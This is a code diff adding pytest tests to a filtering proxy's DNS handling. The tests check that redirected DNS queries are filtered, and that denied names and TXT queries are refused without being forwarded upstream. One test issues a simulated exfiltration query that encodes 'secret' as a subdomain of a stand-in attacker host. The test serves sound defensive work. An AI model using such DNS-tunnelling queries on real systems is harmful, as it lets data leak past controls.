@@ -827,3 +827,47 @@ def test_http_pipelined_second_request_denied(world, proxy):
         assert c.read_response().body == HELLO_BODY
         assert c.read_response().status == 403
     assert world.http.state.find(t1) and not world.http.state.find(t2)
+
+
+# -- DNS redirected to the filtered DNS server --------------------------------------------
+
+DNS_PORT = 15053
+
+
+@pytest.fixture
+def dns_proxy(world):
+    """The proxy with its DNS server, and the client's DNS (UDP and TCP 53, to
+    any address) redirected to it, as awf's sandbox does."""
+    p = world.start_proxy(extra=["--dns-listen", f"127.0.0.1:{DNS_PORT}"])
+    rules = (f"add rule inet awf out meta skuid {netns.CLIENT_UID} udp dport 53 redirect to :{DNS_PORT}\n"
+             f"add rule inet awf out meta skuid {netns.CLIENT_UID} tcp dport 53 redirect to :{DNS_PORT}\n")
+    world.ns.run(["nft", "-f", "-"], input=rules.encode())
+    return p
+
+
+def dig(world, *args):
+    r = world.ns.run(["dig", "+time=3", "+tries=1", *args], uid=netns.CLIENT_UID, check=False)
+    return r.stdout.decode() if isinstance(r.stdout, bytes) else r.stdout
+
+
+def test_dns_to_any_resolver_is_answered_by_the_filter(world, dns_proxy):
+    out = dig(world, "@1.1.1.1", "+short", "allowed.test", "A")
+    assert out.split() == ["127.0.0.1"]
+    rec = dns_proxy.log.wait_one(by(event="dns", qname="allowed.test"))
+    assert rec["decision"] == "allow" and rec["answers"] == 1
+
+
+def test_dns_denied_and_txt_exfiltration_refused_never_forwarded(world, dns_proxy):
+    before = world.dns.total()
+    out = dig(world, "@8.8.8.8", "TXT", "c2VjcmV0.attacker.example")
+    assert "status: REFUSED" in out
+    out = dig(world, "@1.1.1.1", "evil.test", "A")
+    assert "status: REFUSED" in out
+    assert world.dns.total() == before  # nothing reached the upstream resolver
+    rec = dns_proxy.log.wait_one(by(event="dns", qname="c2vjcmv0.attacker.example"))
+    assert rec["decision"] == "deny" and rec["reason"] == "not_allowed"
+
+
+def test_dns_over_tcp_is_redirected_too(world, dns_proxy):
+    out = dig(world, "+tcp", "@9.9.9.9", "+short", "allowed.test", "A")
+    assert out.split() == ["127.0.0.1"]
